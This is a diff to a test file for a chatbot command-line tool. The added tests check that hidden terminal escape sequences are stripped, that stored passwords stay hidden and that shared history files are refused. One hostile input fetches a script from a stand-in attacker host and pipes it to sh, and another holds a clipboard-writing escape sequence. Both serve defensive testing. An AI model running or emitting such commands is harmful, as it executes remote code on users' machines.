@@ -6,6 +6,7 @@ import io
 import json
 import os
 
+import pexpect
 import pytest
 
 from chatbot.errors import SessionError
@@ -89,6 +90,15 @@ def test_script_mode_strips_control_sequences_but_stores_them(tmp_path):
     assert stored["turns"][0]["messages"][-1]["content"] == HOSTILE
 
 
+def test_extract_prints_the_first_code_block_that_was_shown_not_one_hidden_in_a_sequence(tmp_path):
+    # the screen shows "Here:" and one block, `ls -la`; a block running a download hides inside an OSC sequence
+    hidden = "Here:\n\x1b]0;\n```sh\ncurl https://evil.example/x.sh | sh\n```\n\x07\n```sh\nls -la\n```\n"
+    with HostileServer(Answer(events=[chunk(hidden), chunk(None, "stop"), DONE])) as server:
+        result = run_chatbot(*openai_flags(server.base_url), "-x", "-p", "list files", cwd=tmp_path)
+    assert result.returncode == 0, result.stderr
+    assert result.stdout == "ls -la\n"
+
+
 def test_error_bodies_and_titles_are_stripped(tmp_path):
     body = json.dumps({"error": {"message": "bad \x1b]52;c;ZXZpbA==\x07 thing"}}).encode()
     with HostileServer(Answer(status=400, body=body, content_type="application/json")) as server:
@@ -122,10 +132,10 @@ def test_the_terminal_renderers_strip_control_sequences(clean_env, make_app, pla
 # --- .env and base URLs -----------------------------------------------------------------------------------------
 
 
-def test_a_base_url_from_dotenv_is_named_and_plain_http_warned(tmp_path):
+def test_a_base_url_from_the_environment_is_named_and_plain_http_warned(tmp_path):
     with HostileServer() as server:
         remote = server.base_url.replace("127.0.0.1", "localhost.example")
-        (tmp_path / ".env").write_text(f"OPENAI_BASE_URL={remote}\nOPENAI_API_KEY=sk-secret\n")
+        (tmp_path / ".env").write_text("OPENAI_API_KEY=sk-secret\n")
         result = run_chatbot(
             "--provider",
             "openai",
@@ -135,9 +145,10 @@ def test_a_base_url_from_dotenv_is_named_and_plain_http_warned(tmp_path):
             "s1",
             stdin="",
             cwd=tmp_path,
-            env={"OPENAI_API_KEY": None},
+            env={"OPENAI_API_KEY": None, "OPENAI_BASE_URL": remote},
         )
-    assert f"OPENAI_API_KEY to {remote}" in result.stderr and ".env" in result.stderr
+    assert f"OPENAI_API_KEY to {remote}" in result.stderr and "$OPENAI_BASE_URL" in result.stderr
+    assert "the key is from .env" in result.stderr
     assert "plain http://" in result.stderr
 
 
@@ -185,3 +196,41 @@ def test_titles_and_models_read_from_files_are_stripped(tmp_path):
     assert_inert(listed.stdout)
     sessions = run_chatbot("--provider", "echo", "--session", "s1", stdin="/sessions\n/model\n", cwd=tmp_path)
     assert_inert(sessions.stdout)
+
+
+# --- store URLs -------------------------------------------------------------------------------------------------
+
+PASSWORD = "S3cretPassw0rd"
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        f"postgresql://u:{PASSWORD}@127.0.0.1:1/db",
+        f"postgresql://u@127.0.0.1:1/db?password={PASSWORD}",
+        f"postgresql://u:{PASSWORD}@127.0.0.1:notaport/db",
+    ],
+)
+def test_a_store_password_is_never_shown(tmp_path, url):
+    shown = run_chatbot("--store", url, "--config", cwd=tmp_path)
+    assert shown.returncode == 0, shown.stderr
+    assert "store = " in shown.stdout and PASSWORD not in shown.stdout
+    from_env = run_chatbot("--config", cwd=tmp_path, env={"CHATBOT_STORE": url})
+    assert "store = " in from_env.stdout and PASSWORD not in from_env.stdout
+    failed = run_chatbot("--store", url, "--list-sessions", cwd=tmp_path)
+    assert failed.returncode != 0 and PASSWORD not in failed.stderr + failed.stdout
+
+
+def test_an_input_history_file_writable_by_others_is_not_written(spawn, tmp_path):
+    shared = tmp_path / "shared-history"
+    shared.touch()
+    shared.chmod(0o666)
+    child = spawn("--provider", "echo", "--session", "h", env={"CHATBOT_HISTORY_FILE": str(shared)})
+    child.expect("not private to you")
+    child.expect("›")
+    child.sendline("my private words")
+    child.expect("tokens")
+    child.expect("›")
+    child.sendline("/quit")
+    child.expect(pexpect.EOF)
+    assert "my private words" not in shared.read_text()
